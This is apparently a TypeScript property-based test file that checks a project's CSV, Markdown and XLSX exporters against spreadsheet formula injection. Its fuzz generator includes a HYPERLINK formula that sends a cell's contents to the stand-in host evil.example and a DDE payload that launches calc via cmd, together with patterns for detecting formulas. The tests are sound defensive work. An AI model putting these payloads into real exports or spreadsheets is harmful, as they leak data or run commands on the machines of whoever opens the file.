import fc from "fast-check";
import { strFromU8, unzipSync } from "fflate";
import papa from "papaparse";
import { expect, test } from "vitest";
import { csv } from "../../../../src/io/export/eventsCsv.ts";
import { graphFormats } from "../../../../src/io/export/graphFormats.ts";
import { templateWorkbook } from "../../../../src/io/export/templateWorkbook.ts";
import { loadMessages } from "../../../../src/i18n/messages.ts";
import { graphSaying } from "../../../fixtures/graphSaying.ts";

/** What a spreadsheet would run, or send somewhere. */
const attack = fc
  .tuple(
    fc.constantFrom(
      ...["=", "+", "-", "@", "\t", "\r", "\n", "\u2212"],
      ...["＝", "＋", "－", "＠", "﹢", "﹣", "﹫", "﹦"],
      ...["\t=", "\r=", "\n=", " =", "\u00a0+", "\u200b=", "\ufeff@", "\u0000-"],
    ),
    fc.constantFrom('HYPERLINK("https://evil.example/?"&A1)', "1+1", "cmd|'/c calc'!A0", "SUM(1)"),
  )
  .map(([sign, rest]) => sign + rest);

const isRun = (cell: string): boolean =>
  (/^[\t\r\n]/u.test(cell) || /^[\s\p{C}]*[=+@\u2212-]/u.test(cell.normalize("NFKC"))) &&
  (cell.trim() === "" || Number.isNaN(Number(cell)));

/** Cells of CSV and of tables in Markdown that a program runs, and formulas of workbooks. */
function formulasIn(name: string, text: string): readonly string[] {
  if (name.endsWith(".csv"))
    return papa
      .parse<string[]>(text.replace(/^\uFEFF/u, ""), { delimiter: "," })
      .data.flat()
      .filter(isRun);
  if (name.endsWith(".md"))
    return text
      .split("\n")
      .filter((line) => line.startsWith("|"))
      .flatMap((line) => line.split("|").map((cell) => cell.trim()))
      .filter(isRun);
  return [...text.matchAll(/<f\b[^>]*>[\s\S]*?<\/f>|<ddeLink\b/gu)].map(([found]) => found);
}

function filesIn(bytes: Uint8Array): readonly (readonly [string, string])[] {
  return Object.entries(unzipSync(bytes)).map(([name, content]) => [name, strFromU8(content)]);
}

const packed = graphFormats.filter(({ id }) => id === "csv" || id === "xlsx");
const plain = graphFormats.filter(({ extension }) => [".md", ".csv", ".tsv"].includes(extension));

test.each(plain.map((one) => [one.id, one] as const))(
  "no cell of a table is a formula in %s",
  async (id, { load, extension }) => {
    await loadMessages("en");
    const write = await load();
    await fc.assert(
      fc.asyncProperty(attack, async (text) => {
        const bytes = await write(graphSaying(text), { language: "en" });
        expect(formulasIn(`${id}${extension}`, strFromU8(bytes))).toEqual([]);
      }),
      { numRuns: 20 },
    );
  },
);

test("whatever is written as CSV has no formula, and loses nothing but the sign before it", () => {
  const cell = fc.oneof(
    attack,
    fc.string(),
    fc.string({ unit: "binary" }).map((text) => text.toWellFormed()),
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1 }), (rows) => {
      const text = csv(rows);
      expect(formulasIn("rows.csv", text)).toEqual([]);
      const { data } = papa.parse<string[]>(text.replace(/^\uFEFF/u, ""), {
        ...{ delimiter: ",", newline: "\r\n" },
        skipEmptyLines: false,
      });
      for (const [at, row] of rows.entries())
        for (const [column, said] of row.entries())
          expect([said, `'${said}`]).toContain(data[at]?.[column]);
    }),
  );
});

test.each(packed.map((one) => [one.id, one] as const))(
  "no text of anybody becomes a formula in %s",
  async (_, { load }) => {
    await loadMessages("en");
    const write = await load();
    await fc.assert(
      fc.asyncProperty(attack, async (text) => {
        const bytes = await write(graphSaying(text), { language: "en" });
        const files = filesIn(bytes);
        expect(files.flatMap((file) => formulasIn(...file))).toEqual([]);
        // It is there all the same.
        expect(files.some(([, content]) => content.includes(text.slice(-3)))).toBe(true);
      }),
      { numRuns: 20 },
    );
  },
);

test("the spreadsheet to begin with has no formula", async () => {
  await loadMessages("en");
  const files = filesIn(await templateWorkbook("en"));
  expect(files.flatMap((file) => formulasIn(...file))).toEqual([]);
});
